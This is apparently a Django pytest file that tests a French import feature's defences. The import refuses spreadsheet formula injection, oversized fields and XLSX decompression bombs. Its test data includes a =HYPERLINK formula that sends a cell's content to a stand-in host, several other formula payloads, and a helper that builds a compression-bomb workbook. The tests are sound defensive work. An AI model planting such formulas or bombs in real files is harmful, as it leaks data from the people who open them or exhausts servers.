"""What a legacy file cannot do: smuggle a spreadsheet formula into an identity field, hold a value
larger than the import's field limit, or inflate from a small XLSX into hundreds of megabytes.
Each is refused with a French message naming the line (and the column); nothing is imported."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from parcours.importation import lecture
from parcours.importation.lecture import FichierInvalide, check_xlsx_size
from parcours.models import ImportParcours
from participants.models import Participant
from tests.parcours.importation.helpers import csv_bytes, ligne, messages, run, xlsx_bytes

FORMULE = '=HYPERLINK("http://x?"&C2,"Voir")'

# (column, value): each refused on its line and column
FORMULES = [
    ("nom", FORMULE),
    ("prenom", "+33612345678"),
    ("identifiant", "-1+2"),
    ("prescripteur", "@SUM(A1:A9)"),
    ("referent_email", "=x@exemple.fr"),
    ("nom", "\t=1+1"),  # the tab is stripped, the formula is still refused
]


@pytest.mark.parametrize(("colonne", "valeur"), FORMULES)
def test_a_formula_in_an_identity_field_is_refused(world, colonne, valeur):
    content = csv_bytes([ligne(identifiant="OK1"), ligne(**{colonne: valeur})])

    resultat, compteurs = run(content, world.plie_a)

    assert compteurs is None
    refus = [(e.ligne, e.colonne) for e in resultat.erreurs if "formule dans un tableur" in e.message]
    assert refus == [(3, colonne)], messages(resultat)
    assert "elle est refusée dans les champs d'identité" in resultat.erreurs[0].message
    assert not Participant.objects.exists()


def test_a_formula_in_an_xlsx_text_cell_is_refused(world):
    content = xlsx_bytes([ligne(nom=FORMULE)])
    resultat, _ = run(content, world.plie_a, filename="parcours.xlsx")
    assert [(e.ligne, e.colonne) for e in resultat.erreurs] == [(2, "nom")]


def test_the_command_names_line_and_column_and_its_report_is_neutralised(world, tmp_path, capsys):
    path = tmp_path / "ancien.csv"
    path.write_bytes(csv_bytes([ligne(nom=FORMULE)]))
    rapport = tmp_path / "erreurs.csv"

    with pytest.raises(CommandError, match="rien n'a été importé"):
        call_command("import_parcours", str(path), "--plie", "plie-a", "--rapport", str(rapport))

    assert "Ligne 2, colonne nom : Le nom commence par « = »" in capsys.readouterr().err
    rows = list(csv.reader(io.StringIO(rapport.read_text("utf-8-sig")), delimiter=";"))
    assert rows[1][:3] == ["2", "nom", "'" + FORMULE]  # the report echoes the value as text
    assert not Participant.objects.exists()


@pytest.fixture
def upload(client, django_capture_on_commit_callbacks):
    def post(content, name="ancien.csv"):
        with django_capture_on_commit_callbacks(execute=True):
            fichier = SimpleUploadedFile(name, content)
            return client.post(reverse("parcours:import_list"), {"fichier": fichier})

    return post


def test_the_upload_page_rejects_a_formula_and_its_report_is_neutralised(client, world, upload):
    client.force_login(world.admin_a)
    upload(csv_bytes([ligne(prenom="@Léa")]))

    job = ImportParcours.objects.get()
    assert job.status == "rejete"
    page = client.get(reverse("parcours:import_detail", args=[job.pk])).content.decode()
    assert "Le prénom commence par « @ »" in page
    report = client.get(reverse("parcours:import_erreurs", args=[job.pk])).content.decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(report), delimiter=";"))[1]
    assert row[:3] == ["2", "prenom", "'@Léa"] and row[3].startswith("Le prénom commence par « @ »")
    assert not Participant.objects.exists()


# --- The field-size limit --------------------------------------------------------------------


def test_a_value_over_the_field_limit_is_refused_with_its_line(world, settings):
    settings.IMPORT_CSV_FIELD_MAX = 1000
    content = csv_bytes([ligne(), ligne(identifiant="L2", prescripteur="x" * 1001), ligne(identifiant="L3")])

    resultat, compteurs = run(content, world.plie_a)

    assert compteurs is None
    assert messages(resultat) == [
        (
            3,
            "",
            "Ligne 3 : une valeur dépasse 1\u202f000 caractères (limite de l'import, réglage "
            "IMPORT_CSV_FIELD_MAX) : vérifiez le séparateur et les guillemets de cette ligne (un "
            "guillemet non fermé englobe la suite du fichier).",
        )
    ]
    assert not Participant.objects.exists()
    assert csv.field_size_limit() != 1000  # the process-wide limit is given back


def test_an_unclosed_quote_swallowing_the_file_is_named_by_its_line(world, settings):
    settings.IMPORT_CSV_FIELD_MAX = 1000
    header = csv_bytes([]).decode()
    rows = [";".join(ligne(identifiant=f"L{n}").values()) for n in range(200)]
    rows[3] = rows[3].replace("Martin", '"Martin', 1)  # line 5 opens a quote never closed
    content = (header + "\r\n".join(rows) + "\r\n").encode()

    resultat, _ = run(content, world.plie_a)

    derniere = resultat.erreurs[-1]
    assert derniere.ligne == 5 and derniere.message.startswith("Ligne 5 : une valeur dépasse 1\u202f000")


def test_a_huge_single_line_file_is_a_french_error_not_a_technical_failure(client, world, upload, settings):
    settings.IMPORT_CSV_FIELD_MAX = 10_000
    client.force_login(world.admin_a)
    upload(b"identifiant;" + b"x" * 200_000)  # one line, no end: the header itself

    job = ImportParcours.objects.get()
    assert job.status == "rejete", job.message
    assert job.erreurs[0][0] == 1 and job.erreurs[0][3].startswith("Ligne 1 : une valeur dépasse 10\u202f000")


# --- XLSX bombs ------------------------------------------------------------------------------


def xlsx_bomb(padding):
    """A valid workbook whose sheet XML carries ``padding`` bytes of a highly compressible comment."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([ligne()])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, _, tail = data.partition(b"?>")
                data = head + b"?><!--" + b"A" * padding + b"-->" + tail
            target.writestr(info.filename, data)
    return out.getvalue()


def _no_parsing(monkeypatch):
    def parse(*args, **kwargs):
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr("openpyxl.load_workbook", parse)


def test_an_xlsx_over_the_uncompressed_cap_is_refused_before_parsing(world, settings, monkeypatch):
    settings.IMPORT_XLSX_MAX_UNCOMPRESSED = 2 * 1024 * 1024
    content = xlsx_bomb(3 * 1024 * 1024)
    assert len(content) < 100_000
    _no_parsing(monkeypatch)

    resultat, compteurs = run(content, world.plie_a, filename="parcours.xlsx")

    assert compteurs is None
    assert [e.message.split(" :")[0] for e in resultat.erreurs] == [
        "Le fichier XLSX se décompresse en 3 Mo, au-delà de la limite de 2 Mo "
        "(réglage IMPORT_XLSX_MAX_UNCOMPRESSED)"
    ]
    assert not Participant.objects.exists()


def test_an_xlsx_compressed_too_much_is_refused_before_parsing(world, monkeypatch):
    content = xlsx_bomb(5 * 1024 * 1024)  # under the default cap, but inflating ~1000 times
    _no_parsing(monkeypatch)
    with pytest.raises(FichierInvalide, match="anormalement compressé .* « xl/worksheets/sheet1.xml »"):
        check_xlsx_size(io.BytesIO(content))


def test_the_upload_form_refuses_the_bomb_at_once(client, world, upload, settings):
    settings.IMPORT_XLSX_MAX_UNCOMPRESSED = 2 * 1024 * 1024
    client.force_login(world.admin_a)
    response = upload(xlsx_bomb(3 * 1024 * 1024), name="ancien.xlsx")
    assert response.status_code == 200
    assert "se décompresse en 3 Mo, au-delà de la limite de 2 Mo" in response.content.decode()
    assert not ImportParcours.objects.exists()


def test_an_ordinary_xlsx_passes_the_check():
    content = io.BytesIO(xlsx_bytes([ligne(identifiant=f"L{n}") for n in range(500)]))
    check_xlsx_size(content)
    assert content.tell() == 0  # rewound for the reader
    assert lecture.XLSX_RATIO_FROM == 1 << 20
